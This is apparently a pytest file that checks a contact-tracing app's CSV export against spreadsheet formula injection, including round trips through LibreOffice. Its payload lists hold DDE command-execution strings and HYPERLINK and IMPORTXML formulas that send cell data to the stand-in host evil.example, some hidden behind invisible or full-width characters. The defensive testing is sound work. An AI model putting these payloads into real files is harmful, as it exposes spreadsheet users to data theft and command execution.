"""CSV exports: formula payloads neutralised, phones kept as text, safe headers, a real spreadsheet."""
from __future__ import annotations

import csv
import io
import logging
import re
import shutil
import subprocess
import unicodedata
import xml.etree.ElementTree as ET
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from roros_checkin import export
from roros_checkin.db import write_transaction
from roros_checkin.export import FORMULA_TRIGGERS, escape_cell, export_filename, phone_for_export, write_csv

from conftest import hidden_fields
from tracing_data import add_visit, venue_id

CASE_PHONE = "+4791234567"

PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)",
    '=HYPERLINK("https://evil.example/?d="&B2&C2,"Klikk")',
    '=HYPERLINK("http://evil.example?"&B2;"x")',
    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/?",B2),"//a")',
    "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "|calc", "%0A",
]
BREAKOUTS = ['Ola";=1+1;"', "Ola,=1+1", "Ola\n=1+1", "Ola;=1+1", 'Ola"\r\n=1+1']
# A trigger behind what a spreadsheet skips or folds: spaces of every kind, zero-width and bidi
# characters, full-width and small forms, minus signs.
HIDDEN = [" =1+1", "   +1+1", "\u00a0=1+1", "\u200b=1+1", "\u200e-1+1", "\u202e@SUM(1+1)",
          "\u2066=1+1\u2069", "\ufeff=1+1", "\u3000=1+1", "\u2003\u200b\u00a0=1+1", "\u3164=1+1",
          "＝1+1", "＋1+1", "－1+1", "＠SUM(1+1)", "﹦1+1", "\u2212" + "1+1", "\u2013" + "1+1", "％0A",
          " ＝HYPERLINK(\"https://evil.example/\",\"Klikk\")"]
# The same behind a separator inside the cell: a tab breaks out when the file is opened tab-separated.
HIDDEN_BREAKOUTS = ["Ola\t=1+1", "Ola\t \u00a0=1+1", "Ola\t＝1+1", "Ola;\u200b=1+1", "Ola, ＠SUM(1)",
                    "Ola\r\n\u00a0=1+1", "Ola\t\t=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_escaper_neutralises_formula_payload(payload):
    cell = escape_cell(payload)
    if payload[0] in "\t\r\n":
        # The tab or line break could start a cell for a reader with another separator: guarded too.
        assert cell == "'" + payload[0] + "'" + payload[1:]
    else:
        assert cell.startswith("'") and cell[1:] == payload


@pytest.mark.parametrize("payload", HIDDEN)
def test_escaper_sees_triggers_behind_spaces_invisibles_and_full_width_forms(payload):
    assert escape_cell(payload) == "'" + payload


@pytest.mark.parametrize("payload", HIDDEN_BREAKOUTS)
def test_escaper_guards_hidden_triggers_after_a_tab_or_separator_inside_a_cell(payload):
    cell = escape_cell(payload)
    assert cell != payload and cell.replace("'", "") == payload
    for piece in re.split(r"[,;\t\r\n]", cell)[1:]:
        assert not starts_formula(piece), (payload, cell)


@pytest.mark.parametrize("text", ["Fromm", "Anna", "Ærlig Øst", "O'Brien", "91 23 45 67", "0046 70 123 45 67", "",
                                  " Anna", "\u00a0Fromm", "Kafé Ø", "Anne-Marie", "Bord 4", "20.11.2026 kl. 18:00"])
def test_escaper_leaves_ordinary_text_alone(text):
    assert escape_cell(text) == text


def test_names_starting_with_minus_or_plus_stay_readable():
    assert escape_cell("-Anna") == "'-Anna"
    assert escape_cell("+Fromm") == "'+Fromm"


def test_phones_are_written_as_text_not_numbers():
    assert phone_for_export("+4791234567") == "91 23 45 67"
    assert phone_for_export("+46701234567") == "0046 70 123 45 67"
    assert phone_for_export("+4420790000") == "+4420790000"  # not a valid number: kept, then escaped
    assert escape_cell(phone_for_export("+4420790000")) == "'+4420790000"
    # A phone kept in E.164 stays readable (the digits untouched) and is text, not a formula.
    for e164 in ("+4791234567", "+46701234567", "+4420790000"):
        assert escape_cell(e164) == "'" + e164


# Every character a spreadsheet may skip before it looks for a formula, found independently of the
# escaper: by category over the whole of Unicode, plus the blank fillers.
SKIPPED = frozenset(chr(code) for code in range(0x110000)
                    if unicodedata.category(chr(code)) in {"Zs", "Zl", "Zp", "Cc", "Cf"}
                    or chr(code) in "\u115f\u1160\u3164\uffa0\u2800")
MINUS_SIGNS = frozenset("\u2212\u2010\u2011\u2012\u2013\u2014\u2015\u2795\u2796\u207b\u208b\ufe63")


def starts_formula(cell: str) -> bool:
    """Whether a spreadsheet that trims what it cannot see and folds wide forms reads a formula start."""
    visible = cell.lstrip("".join(SKIPPED))
    if not visible:
        return False
    first = unicodedata.normalize("NFKC", visible[0])[:1]
    return first in "=+-@|%" or visible[0] in MINUS_SIGNS


TRICKY = st.text(alphabet=st.sampled_from(list("=+-@|%,;\t\r\n\0 'aØ1") + [
    "\u00a0", "\u200b", "\u200e", "\u202e", "\u2066", "\ufeff", "\u3000", "\u3164", "＝", "＋", "－", "＠",
    "﹦", "\u2212", "\u2013"]))


@settings(max_examples=500, deadline=None)
@given(st.one_of(st.text(), TRICKY))
def test_escaper_property_no_formula_where_any_reader_starts_a_cell(text):
    cell = escape_cell(text)
    assert cell == "" or cell[0] not in FORMULA_TRIGGERS
    assert not starts_formula(cell), (text, cell)
    # Nor where a reader using ",", tab or ";" as separator, or splitting at line breaks, starts one.
    for piece in re.split(r"[,;\t\r\n]", cell)[1:]:
        assert not starts_formula(piece), (text, cell)


@settings(max_examples=500, deadline=None)
@given(st.one_of(st.text(), TRICKY).filter(lambda text: not set(",;\t\r\n") & set(text)))
def test_escaper_property_dropping_the_apostrophe_gives_the_text_back(text):
    text = text.encode("utf-8", "replace").decode("utf-8")
    cell = escape_cell(text)
    assert cell == text or cell == "'" + text
    # The apostrophe is added exactly when a spreadsheet would otherwise see a formula, or a tab,
    # CR, LF or NUL (where some readers start a cell) comes before anything visible.
    before_visible = text.lstrip("".join(SKIPPED - set("\t\r\n\0")))
    assert (cell != text) == (before_visible[:1] in ("\t", "\r", "\n", "\0") or starts_formula(text))


@settings(max_examples=300, deadline=None)
@given(st.from_regex(r"[A-Za-zÆØÅæøåÉéÜü][A-Za-zÆØÅæøåÉéÜü' .-]{0,40}", fullmatch=True))
def test_escaper_property_names_as_the_form_takes_them_stay_exactly(name):
    assert escape_cell(name) == name


def test_escaper_guards_commas_and_line_breaks_inside_a_cell():
    assert escape_cell("Ola,=1+1") == "Ola,'=1+1"
    assert escape_cell("Ola\n=1+1") == "Ola\n'=1+1"
    assert escape_cell("Kafé, Bar") == "Kafé, Bar"


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=4))
def test_written_row_reparses_to_escaped_cells(cells):
    body = write_csv(["a", "b", "c", "d"][:len(cells)], [cells])
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body[1:], newline=""), delimiter=";"))
    assert rows[1] == [escape_cell(cell) for cell in cells]
    for cell in rows[1]:
        assert cell == "" or cell[0] not in FORMULA_TRIGGERS


def test_export_filename_is_an_ascii_slug_with_delete_by_date():
    name = export_filename('Kafé Ærø x"\r\nSet-Cookie: a=b', date(2026, 11, 20), 14)
    assert name == "kafe-aero-x-set-cookie-a-b_2026-11-20_slett-innen-2026-12-04.csv"
    assert export_filename("«»", date(2026, 11, 20), 14).startswith("smittesporing_")


def insert_legacy(conn, name: str, phone: str = "+4798765432", arrived: str = "2026-11-19T18:30") -> None:
    add_visit(conn, "kaffestuggu", name, phone, arrived)


def export_case(client, **fields) -> tuple:
    token = hidden_fields(client.get("/tracing/case").get_data(as_text=True))
    data = {**token, "phone": CASE_PHONE, "case_ref": "2026/17", "onset": "2026-11-20", **fields}
    return client.post("/tracing/case/export", data=data)


@pytest.fixture
def payload_export(staff_client, conn, venue):
    """An export of a case whose contacts carry every payload as their name (legacy rows)."""
    add_visit(conn, "kaffestuggu", "Kari Nordmann", CASE_PHONE, "2026-11-19T18:00", "2026-11-19T21:00")
    # SQLite's length() stops at a NUL, so the table's CHECK refuses a name that starts with one.
    names = ([name for name in PAYLOADS if name[0] != "\0"] + BREAKOUTS + HIDDEN + HIDDEN_BREAKOUTS
             + ["-Anna", "+Fromm", "Ærlig Øst", "Fromm"])
    for number, name in enumerate(names):
        insert_legacy(conn, name, phone=f"+47412{number:05d}")
    # A venue name set by IT reaches every row of the export too.
    with write_transaction(conn):
        conn.execute("UPDATE venues SET name = ? WHERE slug = 'kaffestuggu'",
                     ("\u00a0＝HYPERLINK(\"https://evil.example/\",\"Kaffestuggu\")",))
    response = export_case(staff_client)
    assert response.status_code == 200
    return response, names


def test_export_headers(payload_export, clock):
    response, _ = payload_export
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="sak-2026-17_2026-11-20_slett-innen-2026-12-04.csv"')


def test_export_has_bom_one_header_row_and_every_payload_escaped(payload_export):
    response, names = payload_export
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0][:3] == ["Person", "Navn", "Telefon"]
    assert len(rows) == len(names) + 1
    exported_names = {row[1] for row in rows[1:]}
    assert exported_names == {escape_cell(name) for name in names}
    assert "'-Anna" in exported_names and "'+Fromm" in exported_names and "Ærlig Øst" in exported_names
    assert "Fromm" in exported_names and "' =1+1" in exported_names and "'＝1+1" in exported_names
    assert {row[5] for row in rows[1:]} == {"'\u00a0＝HYPERLINK(\"https://evil.example/\",\"Kaffestuggu\")"}


@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_export_reparsed_with_any_delimiter_has_no_formula_cell(payload_export, delimiter):
    response, _ = payload_export
    text = response.get_data().decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for cell in row:
            assert cell == "" or cell[0] not in FORMULA_TRIGGERS, cell
            assert not starts_formula(cell), cell


def test_one_bad_legacy_row_does_not_break_the_export(staff_client, conn, venue, caplog):
    add_visit(conn, "kaffestuggu", "Kari Nordmann", CASE_PHONE, "2026-11-19T18:00", "2026-11-19T21:00")
    insert_legacy(conn, "Gyldig Gjest", phone="+4741200001")
    insert_legacy(conn, "Nul\x00=1+1", phone="+4741200002")
    with write_transaction(conn):
        # Not UTF-8, stored as text and as a blob: what a broken import could have left.
        for number, expression in enumerate(("CAST(X'FF41FE' AS TEXT)", "X'FF42'")):
            conn.execute(
                "INSERT INTO visits (venue_id, name, phone, party_size, arrived_at, registered_at, source,"
                f" idempotency_key) VALUES (?, {expression}, ?, 1, strftime('%s','2026-11-19 17:30'),"
                " strftime('%s','2026-11-19 17:30'), 'qr', ?)",
                (venue_id(conn, "kaffestuggu"), f"+474120001{number}", f"legacy-bad-utf8-{number:04d}"))
    response = export_case(staff_client)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline=""), delimiter=";"))
    names = sorted(row[1] for row in rows[1:])
    assert names == sorted(["Gyldig Gjest", "Nul\x00=1+1", "\ufffdA\ufffd", "\ufffdB"])
    assert "not UTF-8" in caplog.text
    assert "Nul" not in caplog.text and "Gyldig" not in caplog.text


def test_venue_export_is_named_after_the_venue(staff_client, conn, venue):
    insert_legacy(conn, "=1+1")
    token = hidden_fields(staff_client.get("/tracing/venue").get_data(as_text=True))
    response = staff_client.post("/tracing/venue/export", data={
        **token, "venue": "kaffestuggu", "case_ref": "2026/17", "from": "2026-11-19T18:00", "to": "2026-11-19T21:00"})
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="kaffestuggu_2026-11-20_slett-innen-2026-12-04.csv"')
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [row[1] for row in rows[1:]] == ["'=1+1"]


FODS = {"table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
        "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
        "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0"}


def odf_text(element) -> str:
    """The text of an ODF paragraph, with its tab, space-run and line-break elements."""
    parts = [element.text or ""]
    for child in element:
        tag = child.tag.rsplit("}", 1)[1]
        if tag == "tab":
            parts.append("\t")
        elif tag == "s":
            parts.append(" " * int(child.get(f"{{{FODS['text']}}}c", "1")))
        elif tag == "line-break":
            parts.append("\n")
        else:
            parts.append(odf_text(child))
        parts.append(child.tail or "")
    return "".join(parts)


def libreoffice_cells(csv_path, tmp_path, language: int = 1044, separator: int = 59,
                      trim_spaces: bool = False) -> list[list[tuple]]:
    """Open a CSV in LibreOffice Calc as a double-click would (;, UTF-8), save it as flat ODS,
    and read back each cell's (formula, type, text). `separator` is the field separator's code
    (9 for tab, 44 for ","); `trim_spaces` is the import dialog's "Trim spaces"; formulas in the
    file are evaluated (token 13), as an import that runs them would."""
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice (soffice) must be installed: scripts/system-packages"
    out = tmp_path / "lo-out"
    subprocess.run(
        [soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/lo-profile",
         f"--infilter=CSV:{separator},34,76,1,,{language},false,true,false,false,"
         f"{'true' if trim_spaces else 'false'},-1,true", "--convert-to", "fods", "--outdir", str(out),
         str(csv_path)],
        check=True, capture_output=True, timeout=120)
    tree = ET.parse(out / (csv_path.stem + ".fods"))
    rows = []
    for row in tree.iter(f"{{{FODS['table']}}}table-row"):
        cells = []
        for cell in row.findall("table:table-cell", FODS):
            repeat = int(cell.get(f"{{{FODS['table']}}}number-columns-repeated", "1"))
            value = (cell.get(f"{{{FODS['table']}}}formula"), cell.get(f"{{{FODS['office']}}}value-type"),
                     "\n".join(odf_text(p) for p in cell.findall("text:p", FODS)))
            cells.extend([value] * min(repeat, 50))
        rows.append(cells)
    return rows


def test_libreoffice_reads_every_cell_back_as_text_without_evaluating(payload_export, tmp_path):
    response, names = payload_export
    path = tmp_path / "export.csv"
    path.write_bytes(response.get_data())
    expected = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline=""), delimiter=";"))
    rows = libreoffice_cells(path, tmp_path)
    assert len(rows) >= len(expected)
    numeric_columns = {0, 3, 9}  # person number, party size, overlap minutes
    for expected_row, row in zip(expected, rows):
        for column, expected_cell in enumerate(expected_row):
            formula, value_type, text = row[column] if column < len(row) else (None, None, "")
            assert formula is None, (expected_cell, formula)
            if expected_cell == "":
                assert text == ""
                continue
            if expected_row is not expected[0] and column in numeric_columns:
                assert value_type == "float" and text == expected_cell
                continue
            assert value_type == "string", (expected_cell, value_type)
            # LibreOffice turns a CR LF inside a cell into a line break; compare lines.
            assert text.splitlines() == expected_cell.replace("\r\n", "\n").replace("\r", "\n").splitlines() \
                or text == expected_cell.replace("\x00", "")
    phones = [row[2][2] for row in rows[1:len(expected)]]
    assert "41 20 00 00" in phones


@pytest.mark.parametrize("separator, trim_spaces", [(59, True), (9, False), (9, True), (44, False)])
def test_libreoffice_opened_trimming_spaces_or_with_another_separator_runs_no_formula(
        payload_export, tmp_path, separator, trim_spaces):
    response, _ = payload_export
    path = tmp_path / "export.csv"
    path.write_bytes(response.get_data())
    rows = libreoffice_cells(path, tmp_path, separator=separator, trim_spaces=trim_spaces)
    assert len(rows) > 40
    for row in rows:
        for formula, _value_type, text in row:
            assert formula is None, (formula, text)


def test_libreoffice_runs_a_formula_behind_a_tab_or_a_trimmed_space_unless_escaped(tmp_path):
    # Shows the variants above can fail. LibreOffice reads a line that starts with a quote as one
    # field when tab-separated, and does not trim inside quotes, so the breakout shows on rows
    # without quotes (as a tool that re-saves the file writes them); the escaped cell runs nothing.
    for cell, runs in (("Ola\t=1+1", True), (escape_cell("Ola\t=1+1"), False)):
        path = tmp_path / "raw.csv"
        path.write_bytes(("\ufeff" + f"Navn\r\n1;{cell}\r\n").encode())
        by_tab = libreoffice_cells(path, tmp_path, separator=9)
        assert any(formula is not None for row in by_tab for formula, _, _ in row) is runs, cell
    for cell, runs in ((" =2+2", True), (escape_cell(" =2+2"), False)):
        path = tmp_path / "raw.csv"
        path.write_bytes(("\ufeff" + f"Navn;Telefon\r\n1;{cell}\r\n").encode())
        trimmed = libreoffice_cells(path, tmp_path, trim_spaces=True)
        assert (trimmed[1][1][0] is not None) is runs, cell


def test_libreoffice_would_evaluate_an_unescaped_formula(tmp_path):
    # Shows the round trip above can fail: the same import runs a raw formula.
    path = tmp_path / "raw.csv"
    path.write_bytes(("\ufeff" + '"Navn";"Telefon"\r\n"=1+1";"91 23 45 67"\r\n').encode())
    rows = libreoffice_cells(path, tmp_path)
    assert rows[1][0][0] is not None and rows[1][0][2] == "2"
    assert rows[1][1] == (None, "string", "91 23 45 67")
